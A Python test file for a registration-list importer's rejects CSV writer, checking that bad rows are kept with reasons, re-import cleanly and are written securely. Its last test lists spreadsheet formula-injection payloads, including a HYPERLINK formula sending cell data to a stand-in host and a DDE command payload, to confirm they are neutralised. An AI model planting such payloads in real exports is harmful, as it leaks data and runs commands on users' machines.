"""The rejects file: bad rows exactly as they came, with where and why, to fix and re-import."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import openpyxl
import pytest

from staging.people.fields import PERSON_FIELDS
from staging.registration.cells import spreadsheet_value
from staging.registration.columns import CANONICAL_COLUMNS, SPANISH_HEADERS
from staging.registration.problems import ImportFileError
from staging.registration.reader import read_table
from staging.registration.rejects import rejects_path, write_rejects
from staging.registration.validate import RowProblem, parse_file
from tests.staging.registration.support import TODAY, good_row, write_rows

SPANISH = [SPANISH_HEADERS[column] for column in CANONICAL_COLUMNS]


def _read_rejects(path: Path, delimiter: str) -> list[list[str]]:
    """The cells as the importer reads them: a spreadsheet-safe "'+52…" stands for "+52…"."""
    with path.open(encoding="utf-8-sig", newline="") as rejects:
        return [
            list(map(spreadsheet_value, line)) for line in csv.reader(rejects, delimiter=delimiter)
        ]


def _spanish_list_with_two_bad_rows(tmp_path: Path) -> Path:
    rows = [
        good_row(registration_id="T-1"),
        good_row(registration_id="T-2", date_of_birth="  31/02/1990 ", given_names="María  "),
        good_row(registration_id="T-3"),
        good_row(registration_id="T-4", a_number="A-12-34"),
    ]
    return write_rows(
        tmp_path / "lista tijuana.csv", rows, headers=SPANISH, encoding="cp1252", delimiter=";"
    )


def test_bad_rows_are_written_untouched_with_row_and_reason(tmp_path: Path) -> None:
    path = _spanish_list_with_two_bad_rows(tmp_path)
    parsed = parse_file(path, today=TODAY)

    written = write_rejects(parsed.source, parsed.problems, path)

    assert written == tmp_path / "lista tijuana.rejects.csv"
    assert written.read_bytes().startswith(b"\xef\xbb\xbf")
    header, *rows = _read_rejects(written, ";")
    assert header == [*SPANISH, "rejected_row", "rejection_reason"]
    second = good_row(registration_id="T-2", date_of_birth="  31/02/1990 ", given_names="María  ")
    fourth = good_row(registration_id="T-4", a_number="A-12-34")
    assert [row[:-2] for row in rows] == [list(second.values()), list(fourth.values())]
    assert [row[-2] for row in rows] == ["3", "5"]
    assert rows[0][-1] == (
        "Row 3: date_of_birth '  31/02/1990 ' is not a real date"
        " / Fila 3: fecha_nacimiento '  31/02/1990 ' no es una fecha válida"
    )
    assert rows[1][-1].startswith("Row 5: a_number 'A-12-34' has 4 digits")


def test_fixed_rejects_file_reimports_without_its_extra_columns(tmp_path: Path) -> None:
    path = _spanish_list_with_two_bad_rows(tmp_path)
    parsed = parse_file(path, today=TODAY)
    rejects = write_rejects(parsed.source, parsed.problems, path)
    assert rejects is not None

    header, *rows = _read_rejects(rejects, ";")
    rows[0][SPANISH.index("fecha_nacimiento")] = "28/02/1990"  # staff fix one row in Excel
    with rejects.open("w", encoding="utf-8-sig", newline="") as fixed:
        csv.writer(fixed, delimiter=";").writerows([header, *rows])

    again = parse_file(rejects, today=TODAY)
    assert again.header_map.unknown == []
    assert [record.registration_id for record in again.records.values()] == ["T-2"]
    assert [problem.row_number for problem in again.problems] == [3]

    rejects_of_rejects = write_rejects(again.source, again.problems, rejects)
    assert rejects_of_rejects == tmp_path / "lista tijuana.rejects.rejects.csv"
    header, row = _read_rejects(rejects_of_rejects, ";")
    assert header == [*SPANISH, "rejected_row", "rejection_reason"]  # replaced, not repeated
    assert row[-2:] == ["3", again.problems[0].message]


def test_no_rejects_means_no_file_and_a_stale_one_is_removed(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "lista.csv", [good_row()])
    stale = rejects_path(path)
    stale.write_text("old rejects", encoding="utf-8")
    parsed = parse_file(path, today=TODAY)

    assert write_rejects(parsed.source, parsed.problems, path) is None
    assert not stale.exists()


def test_rows_refused_later_by_the_database_are_added_in_file_order(tmp_path: Path) -> None:
    path = _spanish_list_with_two_bad_rows(tmp_path)
    parsed = parse_file(path, today=TODAY)
    conflict = RowProblem(
        2, "a_number", "212345678", "a_number_conflict", "Row 2: taken", "Fila 2: ocupado"
    )
    shadowed = RowProblem(
        5, "a_number", "x", "a_number_conflict", "Row 5: later", "Fila 5: después"
    )

    written = write_rejects(parsed.source, parsed.problems, path, extra={2: conflict, 5: shadowed})

    assert written is not None
    _, *rows = _read_rejects(written, ";")
    assert [row[-2] for row in rows] == ["2", "3", "5"]
    assert rows[0][-1] == "Row 2: taken / Fila 2: ocupado"
    assert rows[2][-1].startswith("Row 5: a_number 'A-12-34'")  # the first problem found stays


def test_a_problem_for_a_row_not_in_the_file_is_a_programming_error(tmp_path: Path) -> None:
    parsed = parse_file(write_rows(tmp_path / "lista.csv", [good_row()]), today=TODAY)
    ghost = RowProblem(99, "a_number", "", "a_number_conflict", "Row 99", "Fila 99")
    with pytest.raises(ValueError, match="99"):
        write_rejects(parsed.source, [ghost], tmp_path / "lista.csv")


def test_workbook_rejects_are_comma_separated_with_cells_as_read(tmp_path: Path) -> None:
    path = tmp_path / "lista.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([*CANONICAL_COLUMNS, "extra"])
    sheet.append([*good_row(a_number="A1234567").values(), "sí"])
    workbook.save(path)
    parsed = parse_file(path, today=TODAY)

    written = write_rejects(parsed.source, parsed.problems, path)

    assert written == tmp_path / "lista.rejects.csv"
    header, row = _read_rejects(written, ",")
    assert header == [*CANONICAL_COLUMNS, "extra", "rejected_row", "rejection_reason"]
    assert row[: len(CANONICAL_COLUMNS) + 1] == [*good_row(a_number="A1234567").values(), "sí"]


def test_cells_beyond_the_header_are_kept_under_blank_headers(tmp_path: Path) -> None:
    path = tmp_path / "lista.csv"
    cells = [*good_row(a_number="bad").values(), "nota suelta"]
    path.write_text(",".join(CANONICAL_COLUMNS) + "\r\n" + ",".join(cells) + "\r\n", "utf-8")
    parsed = parse_file(path, today=TODAY)

    written = write_rejects(parsed.source, parsed.problems, path)

    assert written is not None
    header, row = _read_rejects(written, ",")
    assert header == [*CANONICAL_COLUMNS, "", "rejected_row", "rejection_reason"]
    assert row[:-2] == cells


def test_an_unwritable_rejects_file_is_reported_to_staff(tmp_path: Path) -> None:
    path = _spanish_list_with_two_bad_rows(tmp_path)
    parsed = parse_file(path, today=TODAY)
    rejects_path(path).mkdir()  # something in the way, as a file locked by Excel would be
    with pytest.raises(ImportFileError, match="could not be written"):
        write_rejects(parsed.source, parsed.problems, path)
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    assert read_table(path).rows  # the input is untouched


def test_a_stale_rejects_file_that_cannot_be_removed_is_reported(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "lista.csv", [good_row()])
    (rejects_path(path) / "inside").mkdir(parents=True)  # cannot be unlinked like a file
    parsed = parse_file(path, today=TODAY)
    with pytest.raises(ImportFileError, match="is it open in Excel"):
        write_rejects(parsed.source, parsed.problems, path)


def test_rejects_file_is_readable_by_this_account_only(tmp_path: Path) -> None:
    source = tmp_path / "list.csv"
    source.write_text(
        "registration_id,given_names,paternal_surname,date_of_birth,a_number,mpp_enrollment_date\n"
        "R-1,Ana,Cruz,31/02/1990,200000001,2019-09-10\n",
        encoding="utf-8",
    )
    parsed = parse_file(source, today=TODAY)
    written = write_rejects(read_table(source), parsed.problems, source)
    assert written is not None
    assert stat.S_IMODE(written.stat().st_mode) & 0o077 == 0


PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Ver")',
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
]
TEXT_COLUMNS = [field.name for field in PERSON_FIELDS if field.kind in ("id", "text", "note")]


def test_formula_payloads_in_every_text_column_are_inert_and_reimport_the_same(
    tmp_path: Path,
) -> None:
    """Seen: =HYPERLINK(...) and =1+2 written raw into the rejects file that staff open."""
    rows = [
        good_row(
            registration_id=f"T-{n}",
            date_of_birth="31/02/1990",  # every row rejected, every payload written out
            **{column: payload for column in TEXT_COLUMNS if column != "registration_id"},
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    rows.append(good_row(registration_id=PAYLOADS[0], date_of_birth="31/02/1990"))
    path = write_rows(tmp_path / "lista.csv", rows, delimiter=";")
    parsed = parse_file(path, today=TODAY)
    assert len(parsed.problems) == len(rows)
    written = write_rejects(parsed.source, parsed.problems, path)
    assert written is not None

    with written.open(encoding="utf-8-sig", newline="") as rejects:
        raw = list(csv.reader(rejects, delimiter=";"))
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in raw for cell in line
    )
    assert (
        raw[1][CANONICAL_COLUMNS.index("given_names")]
        == '\'=HYPERLINK("http://x.example/?d="&A1,"Ver")'
    )
    # A list's "'=1+2" is what a spreadsheet-safe export writes for "=1+2", and reads as that.
    assert raw[8][CANONICAL_COLUMNS.index("notes")] == "'=1+2"

    again = parse_file(written, today=TODAY)
    assert [row.values[: len(CANONICAL_COLUMNS)] for row in again.source.rows] == [
        row.values for row in parsed.source.rows
    ]
    assert [(p.column, p.value, p.code) for p in again.problems] == [
        (p.column, p.value, p.code) for p in parsed.problems
    ]
